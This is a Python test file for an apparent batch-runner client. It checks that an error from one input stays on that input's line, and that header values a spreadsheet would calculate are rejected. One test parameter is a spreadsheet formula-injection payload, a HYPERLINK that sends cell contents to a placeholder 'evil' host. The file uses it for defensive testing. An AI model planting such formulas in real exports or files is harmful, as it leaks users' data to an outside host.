"""What one input meets is no matter of the others."""

from __future__ import annotations

import asyncio

import httpx
import pytest
from flaky_platform import CALM, flaky_platform

from modelwhisk.client.answers import Reply
from modelwhisk.client.calls import Calls
from modelwhisk.client.transport import AsyncTransport
from modelwhisk.map.inputs import rows_of
from modelwhisk.map.runner import Runner, _drift


def test_a_defect_that_one_input_shows_is_its_own_line(tmp_path, monkeypatch):
    reply = Calls.reply

    def defective(self, values):
        if values == {"n": 2}:
            raise ZeroDivisionError("shown by 2")
        return (yield from reply(self, values))

    monkeypatch.setattr(Calls, "reply", defective)
    results = []

    async def run(url):
        transport = AsyncTransport()
        await Runner(Calls(url), transport, tmp_path, 2).run(rows_of({"n": n} for n in range(5)), results.append)
        await transport.close()

    with flaky_platform(CALM) as platform:
        asyncio.run(run(platform.url))
    lines = {result.row.values["n"]: result.line for result in results}
    assert lines.pop(2).error == "ZeroDivisionError: shown by 2"
    assert {n: line.answer for n, line in lines.items()} == {n: {"square": n * n} for n in (0, 1, 3, 4)}


@pytest.mark.parametrize("told", ['=HYPERLINK("http://evil/?"&A2,"x")', "+1", "-1", "@x", "\t=1", "distance"])
def test_a_header_that_a_table_would_calculate_is_left(told):
    assert _drift(Reply(200, httpx.Headers({"model-drift": told}), b"")) is None
    assert _drift(Reply(200, httpx.Headers({"model-drift": "distance=0.5; threshold=1"}), b"")) is not None
